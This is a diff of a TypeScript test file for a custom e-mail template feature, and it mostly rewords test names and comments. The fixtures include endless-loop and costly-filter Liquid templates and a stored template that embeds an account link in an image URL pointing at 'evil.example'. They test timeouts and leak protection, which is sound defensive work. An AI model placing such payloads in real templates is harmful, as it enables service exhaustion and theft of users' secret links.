@@ -12,7 +12,7 @@ import { tryRenderingTemplate } from './custom-templates.ts'
 import type { TemplateRenderRequest } from './fill-template.ts'
 
 const endless = '{% assign r = (1..900000) %}{% for i in r %}{% for j in r %}{% endfor %}{% endfor %}'
-/** One filter that no limit of the engine interrupts. */
+/** A single filter that the engine's limits cannot interrupt. */
 const singleFilter = `{% assign y = "${'ab'.repeat(40_000)}" | split: "" | join: "," | replace: "a", "b,b,b" | split: "" | sort_natural | join: "" | split: "" | sort_natural | uniq | join: "" %}{{ y }}`
 
 const NOW = new Date('2026-11-20T02:00:00.000Z')
@@ -33,8 +33,8 @@ async function longestDelayInMs(work: () => Promise<unknown>): Promise<number> {
 }
 
 test.for([
-  ['loops in every part', { subject: endless, html: endless, text: endless }],
-  ['one long filter', { html: singleFilter }],
+  ['endless loops in every part', { subject: endless, html: endless, text: endless }],
+  ['one long-running filter', { html: singleFilter }],
 ] as const)(
   'A custom template with %s is stopped within two seconds without blocking the event loop',
   async ([, parts]) => {
@@ -81,9 +81,7 @@ test('Excess custom template previews get 503, without delaying e-mails being se
 
 test('A stored template that leaks a secret link is replaced by the shipped template', async () => {
   const { db } = database
-  await db
-    .update(emailTemplates)
-    .set({ htmlTemplate: '<img src="https://evil.example/?{{ accountLinkTemplate }}">' })
+  await db.update(emailTemplates).set({ htmlTemplate: '<img src="https://evil.example/?{{ accountLink }}">' })
   const [message] = await db.select().from(outbox)
   if (message === undefined) throw new Error('nothing announced')
   const context = { db, log: createLog('silent'), secrets: TEST_SECRETS, site: TEST_SITE }
